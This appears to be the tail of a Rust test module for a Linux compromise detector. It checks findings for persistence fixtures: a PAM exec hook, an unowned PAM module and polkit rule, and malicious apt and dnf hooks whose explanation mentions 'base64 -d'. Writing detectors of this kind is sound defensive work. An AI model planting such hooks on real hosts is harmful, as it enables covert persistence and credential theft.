                "/etc/apt/apt.conf.d/99-apt-fast-update",
                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py"
            ]
        );
        assert_eq!(subjects("pam-exec-hook"), ["/etc/pam.d/sshd"]);
        assert_eq!(
            subjects("pam-module-unowned"),
            ["/lib/x86_64-linux-gnu/security/pam_unix2.so"]
        );
        assert_eq!(
            subjects("polkit-rule-unowned"),
            ["/etc/polkit-1/rules.d/49-svc.rules"]
        );
        assert_eq!(
            subjects("hook-malicious-content"),
            [
                "/etc/apt/apt.conf.d/99-apt-fast-update:2",
                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py:4"
            ]
        );
        // None of them is judged as a boot hook as well.
        assert!(subjects("boot-hook-unowned").is_empty());
        let f = |rule: &str| {
            a.findings
                .iter()
                .chain(&a.context)
                .find(|f| f.rule == rule)
                .unwrap()
        };
        assert!(
            f("pam-exec-hook")
                .explanation
                .contains("no package owns it")
        );
        assert!(
            f("pam-module-unowned")
                .explanation
                .contains("/etc/pam.d/common-auth:3")
        );
        // The module's evidence includes the service file that loads it.
        assert!(
            f("pam-module-unowned")
                .evidence
                .iter()
                .any(|e| e.member == "raw/etc/pam.d/common-auth")
        );
        assert!(
            f("pam-module-unowned")
                .explanation
                .contains("is `sufficient` in the auth stack")
        );
        assert!(f("pkg-manager-hook").explanation.contains("base64 -d"));
        // The apt hook is context, raising the behaviour found in its content.
        assert!(
            f("pkg-manager-hook")
                .linked_to
                .contains(&"hook-malicious-content".to_string())
        );
        for rule in ["pam-exec-hook", "pam-module-unowned", "polkit-rule-unowned"] {
            let h = a.hits.iter().find(|h| h.rule == rule).unwrap();
            let info = crate::rules::CATALOG.iter().find(|r| r.id == rule).unwrap();
            assert_eq!(
                h.mitre,
                info.mitre.iter().map(|m| m.to_string()).collect::<Vec<_>>()
            );
        }
        // Each family alone takes the host to at least Suspicious.
        for (name, hooks) in &families {
            let a = run(hooks.clone());
            assert!(a.score >= 30, "{name}: {} {:?}", a.score, a.hits);
        }
        // pam_exec in a package's unchanged service file is the package's own; in any other
        // service file it is reported, package database or not.
        let a = run(vec![
            hook(
                1,
                "/etc/pam.d/vendor-ok",
                "pam",
                json!({"commands": ["/usr/bin/logger x"]}),
            ),
            hook(
                2,
                "/etc/pam.d/login",
                "pam",
                json!({"commands": ["/usr/bin/logger y"]}),
            ),
        ]);
        let pe: Vec<&str> = a
            .findings
            .iter()
            .filter(|f| f.rule == "pam-exec-hook")
            .map(|f| f.subject.as_str())
            .collect();
        assert_eq!(pe, ["/etc/pam.d/login"]);
    }
}
